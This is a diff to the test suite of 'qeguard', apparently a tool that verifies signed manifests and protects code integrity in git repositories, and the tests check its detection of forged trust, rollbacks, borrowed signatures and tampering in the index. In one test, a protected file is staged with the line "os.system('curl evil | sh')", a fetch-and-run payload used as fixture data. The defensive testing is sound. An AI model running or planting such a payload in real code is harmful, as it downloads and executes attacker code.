@@ -13,18 +13,20 @@ from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
 
-from conftest import KeyPair, git_run, write_files
-from gitguard import (
+from helpers import (
     CORE_FILE,
     MIDDLE_FILE,
+    KeyPair,
     commit,
     failing,
+    git_run,
     protect,
-    qg,
-    report,
     rules,
+    run_qeguard,
     sign,
+    verify_json,
     with_bare_remote,
+    write_files,
 )
 from qeguard.integrity.dsse import PAYLOAD_TYPE, Envelope, Signature
 from qeguard.integrity.keys import load_signing_key
@@ -65,7 +67,7 @@ def _forge(root: Path, tier: str, list_bytes: bytes, keys: list[KeyPair], sequen
 
 def test_baseline_main_verifies_clean(repo: Path, keypair: Callable[..., KeyPair]) -> None:
     protect(repo, keypair("alice"), keypair("bob"))
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 0, rules(doc)
     assert failing(doc) == []
 
@@ -79,13 +81,16 @@ def test_branch_adding_its_own_keys_to_trust_cannot_sign_core(
     protect(repo, alice, bob)
     _branch(repo)
     for k in (m1, m2):
-        assert qg(repo, "trust", "add", k.name, k.public, "--tiers", "core,middle").code == 0
+        assert (
+            run_qeguard("trust", "add", k.name, k.public, "--tiers", "core,middle", cwd=repo).code
+            == 0
+        )
     write_files(repo, {CORE_FILE: "def predict(x):\n    return 0\n"})
     sign(repo, m1)
     sign(repo, m2)
     commit(repo, "add my keys and change core")
     # Under the branch's own trust this would pass; that is exactly what must not count.
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     found = rules(doc)
     assert "QG-TRUST-CHANGE .qeguard/trust.toml" in found
@@ -93,7 +98,7 @@ def test_branch_adding_its_own_keys_to_trust_cannot_sign_core(
     assert doc["trust_source"].startswith("main ")
     # The hook (trust from HEAD = main's commit here, staged = the branch) agrees.
     git_run(repo, "reset", "-q", "--soft", "HEAD~1")
-    code, doc = report(repo, "--staged")
+    code, doc = verify_json(repo, "--staged")
     assert code == 1
     assert "QG-TRUST-CHANGE .qeguard/trust.toml" in rules(doc)
 
@@ -108,13 +113,13 @@ def test_core_change_resigned_by_one_of_two_is_blocked_in_ci(
     write_files(repo, {CORE_FILE: "def predict(x):\n    return 7 * x\n"})
     sign(repo, alice, "core")
     commit(repo, "core change, one signature")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     threshold = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
     assert threshold and threshold[0]["severity"] == "high"
     assert threshold[0]["details"]["signers"] == ["alice"]
     # Locally the same state is a warning naming who signed, not a block.
-    code, doc = report(repo)
+    code, doc = verify_json(repo)
     assert code == 0
     local = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
     assert local[0]["severity"] == "low" and "(alice)" in local[0]["message"]
@@ -131,15 +136,15 @@ def test_restoring_an_older_validly_signed_manifest_is_a_rollback(
     sign(repo, alice, "core")
     sign(repo, bob, "core")
     commit(repo, "security fix, co-signed")
-    assert report(repo, *CI)[0] == 0
+    assert verify_json(repo, *CI)[0] == 0
     _branch(repo)
     git_run(repo, "checkout", "-q", old, "--", ".qeguard/manifests", CORE_FILE)
     commit(repo, "bring back the old version")
     # The old manifest is validly signed by both and matches the old file...
-    code, doc = report(repo, "--trust-ref", old)
+    code, doc = verify_json(repo, "--trust-ref", old)
     assert "QG-SIG-ROLLBACK" not in " ".join(rules(doc))
     # ...but against main it is a rollback.
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     rb = [f for f in doc["findings"] if f["rule"] == "QG-SIG-ROLLBACK"]
     assert rb and rb[0]["severity"] == "critical" and rb[0]["tier"] == "core"
@@ -162,7 +167,7 @@ def test_removing_a_file_from_the_policy_instead_of_signing(
     write_files(repo, {CORE_FILE: "def predict(x):\n    return -x\n"})
     sign(repo, alice)  # one signer re-signs everything under the narrowed policy
     commit(repo, "narrow the policy")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     found = rules(doc)
     assert "QG-TRUST-CHANGE .qeguard/trust.toml" in found
@@ -182,7 +187,7 @@ def test_envelope_or_signature_copied_from_another_tier(
     shutil.copy(repo / envelope_path("middle"), repo / envelope_path("core"))
     shutil.copy(repo / list_path("middle"), repo / list_path("core"))
     commit(repo, "core = middle")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     assert "QG-SIG-BINDING .qeguard/manifests/core.dsse.json" in rules(doc)
 
@@ -190,13 +195,15 @@ def test_envelope_or_signature_copied_from_another_tier(
     git_run(repo, "reset", "-q", "--hard", "main")
     write_files(repo, {CORE_FILE: "def predict(x):\n    return 9\n"})
     nobody = keypair("nobody")
-    qg(repo, "sign", "--key", nobody.private, "--tier", "core")  # new payload, unsigned
+    run_qeguard(
+        "sign", "--key", nobody.private, "--tier", "core", cwd=repo
+    )  # new payload, unsigned
     middle = json.loads((repo / envelope_path("middle")).read_text())
     core = json.loads((repo / envelope_path("core")).read_text())
     core["signatures"] = middle["signatures"]
     (repo / envelope_path("core")).write_text(json.dumps(core))
     commit(repo, "borrow signatures")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     threshold = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
     assert threshold and threshold[0]["tier"] == "core"
@@ -213,8 +220,8 @@ def test_staged_blob_differs_while_working_copy_matches(
     (repo / CORE_FILE).write_text("import os; os.system('curl evil | sh')\n")
     git_run(repo, "add", CORE_FILE)
     (repo / CORE_FILE).write_bytes(original)  # the working copy looks untouched
-    assert report(repo)[0] == 0  # the working tree is clean...
-    code, doc = report(repo, "--staged")  # ...but the commit would not be
+    assert verify_json(repo)[0] == 0  # the working tree is clean...
+    code, doc = verify_json(repo, "--staged")  # ...but the commit would not be
     assert code == 1
     assert f"QG-INT-MODIFIED {CORE_FILE}" in rules(doc)
 
@@ -232,14 +239,14 @@ def test_file_replaced_by_symlink_to_identical_content(
     rel = os.path.relpath(repo / "vendor/model.py", (repo / CORE_FILE).parent)
     os.symlink(rel, repo / CORE_FILE)
     git_run(repo, "add", "-A")
-    code, doc = report(repo, "--staged")
+    code, doc = verify_json(repo, "--staged")
     assert code == 1
     assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
     git_run(repo, "commit", "-q", "-m", "symlink")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
-    code, doc = report(repo, "--commit", "HEAD", *CI)
+    code, doc = verify_json(repo, "--commit", "HEAD", *CI)
     assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
 
 
@@ -259,11 +266,11 @@ def test_manifest_entries_escaping_the_repository(
     ordered = sorted(evil + lines, key=lambda line: line.split(b" ", 3)[3])
     _forge(repo, "middle", b"".join(ordered), [alice, bob], sequence=5)
     git_run(repo, "add", "-A")
-    code, doc = report(repo, "--staged")  # the hook: the changed lines are checked
+    code, doc = verify_json(repo, "--staged")  # the hook: the changed lines are checked
     assert code == 1
     assert len([f for f in doc["findings"] if f["rule"] == "QG-INT-PATH"]) == 3
     commit(repo, "entries outside the tree")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     unsafe = [f for f in doc["findings"] if f["rule"] == "QG-INT-PATH"]
     assert sorted(f["details"]["entry"] for f in unsafe) == [
@@ -287,7 +294,7 @@ def test_crlf_checkout_of_a_clean_signed_tree_has_no_finding(
     git_run(clone, "config", "user.email", "win@example.com")
     assert b"\r\n" in (clone / CORE_FILE).read_bytes()  # really checked out with CRLF
     for args in ((), ("--trust-ref", "origin/main"), ("--staged",), ("--commit", "HEAD")):
-        code, doc = report(clone, *args)
+        code, doc = verify_json(clone, *args)
         assert code == 0, (args, rules(doc))
         assert [r for r in rules(doc) if not r.startswith("QG-SIG-THRESHOLD")] == [], args
 
@@ -304,7 +311,7 @@ def test_staged_manifest_edit_without_the_file_is_caught(
     write_files(repo, {MIDDLE_FILE: "HELPER = 2\n"})
     sign(repo, alice, "middle")
     git_run(repo, "add", ".qeguard")  # MIDDLE_FILE itself stays unstaged
-    code, doc = report(repo, "--staged")
+    code, doc = verify_json(repo, "--staged")
     assert code == 1
     assert f"QG-INT-MODIFIED {MIDDLE_FILE}" in rules(doc)
 
@@ -314,7 +321,7 @@ def test_deleting_a_protected_file_is_caught_in_the_index(
 ) -> None:
     protect(repo, keypair("alice"), keypair("bob"))
     git_run(repo, "rm", "-q", CORE_FILE)
-    code, doc = report(repo, "--staged")
+    code, doc = verify_json(repo, "--staged")
     assert code == 1
     assert f"QG-INT-MISSING {CORE_FILE}" in rules(doc)
 
@@ -322,7 +329,7 @@ def test_deleting_a_protected_file_is_caught_in_the_index(
 def test_exec_bit_flipped_in_the_index_only(repo: Path, keypair: Callable[..., KeyPair]) -> None:
     protect(repo, keypair("alice"), keypair("bob"))
     git_run(repo, "update-index", "--chmod=+x", CORE_FILE)
-    code, doc = report(repo, "--staged")
+    code, doc = verify_json(repo, "--staged")
     assert code == 1
     assert f"QG-INT-EXEC {CORE_FILE}" in rules(doc)
 
@@ -333,7 +340,7 @@ def test_new_unsigned_file_in_a_protected_folder(
     protect(repo, keypair("alice"), keypair("bob"))
     write_files(repo, {"src/pkg/core/backdoor.py": "x = 1\n"})
     git_run(repo, "add", "src/pkg/core/backdoor.py")
-    code, doc = report(repo, "--staged")
+    code, doc = verify_json(repo, "--staged")
     assert code == 1
     assert "QG-INT-ADDED src/pkg/core/backdoor.py" in rules(doc)
 
@@ -345,25 +352,28 @@ def test_key_rotation_signed_by_the_old_threshold_is_accepted(
     protect(repo, alice, bob)
     # Step 1: add carol. One old signer is not enough; the old threshold (2) is.
     _branch(repo, "add-carol")
-    assert qg(repo, "trust", "add", "carol", carol.public, "--tiers", "core,middle").code == 0
+    assert (
+        run_qeguard("trust", "add", "carol", carol.public, "--tiers", "core,middle", cwd=repo).code
+        == 0
+    )
     sign(repo, alice, "core")
     commit(repo, "trust carol, alice signs")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     assert "QG-TRUST-CHANGE .qeguard/trust.toml" in rules(doc)
     sign(repo, bob, "core")
     commit(repo, "bob co-signs")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 0, rules(doc)
     git_run(repo, "checkout", "-q", "main")
     git_run(repo, "merge", "-q", "--ff-only", "add-carol")
     # Step 2: retire bob, approved by alice and carol (trusted at main now).
     _branch(repo, "retire-bob")
-    assert qg(repo, "trust", "remove", "bob").code == 0
+    assert run_qeguard("trust", "remove", "bob", cwd=repo).code == 0
     sign(repo, alice, "core")
     sign(repo, carol, "core")
     commit(repo, "retire bob")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 0, rules(doc)
     git_run(repo, "checkout", "-q", "main")
     git_run(repo, "merge", "-q", "--ff-only", "retire-bob")
@@ -371,13 +381,13 @@ def test_key_rotation_signed_by_the_old_threshold_is_accepted(
     _branch(repo, "after")
     write_files(repo, {CORE_FILE: "def predict(x):\n    return 11 * x\n"})
     sign(repo, alice, "core")
-    qg(repo, "sign", "--key", bob.private, "--tier", "core")
+    run_qeguard("sign", "--key", bob.private, "--tier", "core", cwd=repo)
     commit(repo, "core change signed by alice and (retired) bob")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 1
     sign(repo, carol, "core")
     commit(repo, "carol co-signs")
-    code, doc = report(repo, *CI)
+    code, doc = verify_json(repo, *CI)
     assert code == 0, rules(doc)
 
 
@@ -399,14 +409,14 @@ def test_co_signing_across_commits(
     git_run(reviewer, "config", "user.name", "Bob")
     git_run(reviewer, "config", "user.email", "bob@example.com")
     git_run(reviewer, "checkout", "-q", "feature")
-    code, doc = report(reviewer, "--trust-ref", "origin/main")
+    code, doc = verify_json(reviewer, "--trust-ref", "origin/main")
     assert code == 1 and "QG-SIG-THRESHOLD" in " ".join(rules(doc))
     sign(reviewer, bob, "core")
     commit(reviewer, "reviewer: co-sign core")
     git_run(reviewer, "push", "-q", "origin", "feature")
 
     git_run(repo, "pull", "-q", "--ff-only", "origin", "feature")
-    code, doc = report(repo, "--trust-ref", "origin/main")
+    code, doc = verify_json(repo, "--trust-ref", "origin/main")
     assert code == 0, rules(doc)
     core = next(t for t in doc["tiers"] if t["name"] == "core")
     assert sorted(core["signers"]) == ["alice", "bob"]
